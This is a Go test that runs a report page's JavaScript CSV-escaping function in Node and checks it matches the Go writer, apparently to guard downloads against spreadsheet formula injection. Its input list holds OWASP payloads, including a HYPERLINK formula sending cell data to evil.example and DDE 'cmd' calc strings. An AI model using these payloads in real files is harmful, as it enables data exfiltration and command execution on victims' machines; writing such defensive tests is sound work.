package out

import (
	"bufio"
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"strings"
	"testing"
)

// TestReportJSCSVField runs report.html's csvField (the CSV download of
// its tables, out/web/report.js) in Node on the OWASP payloads and the
// edge cases of TestSpreadsheetSafe: each field is what the report's
// tables/*.csv hold for it (CellsSafe), so no download can be evaluated
// by a spreadsheet either.
func TestReportJSCSVField(t *testing.T) {
	node, err := exec.LookPath("node")
	if err != nil {
		t.Skip("no node: apt-get install nodejs to run report.js's csvField against Go's")
	}
	src, err := os.ReadFile("web/report.js")
	if err != nil {
		t.Fatal(err)
	}
	s := string(src)
	start := strings.Index(s, "  function formulaStart(s) {")
	end := strings.Index(s, "  // ---- shapes")
	if start < 0 || end < start {
		t.Fatal("report.js: no formulaStart and csvField")
	}
	inputs := []string{
		`=HYPERLINK("http://evil.example/?d="&A1,"Click me")`, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
		"@SUM(A1:A9)", "\tx", "\rx", "\nx", "  =1+1", "＝1+1", "Safe; =1+1", `a;"=1+1"`, "a; ;@b", "-Inf", "-", "-0.25",
		"+3", "-1e-05", "1.5E+10", "Isolated =x", "a-b, c+d", "", " lead", "Line one\nline two", `say "hi"`,
		"F1\x1b]0;pwned\x07", "Plain \u009b31m", `\.`, "plain", "0.5", "a,b",
	}
	arg, _ := json.Marshal(inputs)
	script := s[start:end] + "\nconsole.log(JSON.stringify(JSON.parse(process.argv[1]).map(csvField)));\n"
	out, err := exec.Command(node, "-e", script, string(arg)).Output()
	if err != nil {
		t.Fatalf("node: %v", err)
	}
	var got []string
	if err := json.Unmarshal(out, &got); err != nil || len(got) != len(inputs) {
		t.Fatalf("node printed %q (%v)", out, err)
	}
	for i, in := range inputs {
		var b bytes.Buffer
		w := bufio.NewWriter(&b)
		CellsSafe.writeCSVRecord(w, []string{in})
		w.Flush()
		if want := strings.TrimSuffix(b.String(), "\n"); got[i] != want {
			t.Errorf("csvField(%q) = %q, Go writes %q", in, got[i], want)
		}
	}
}
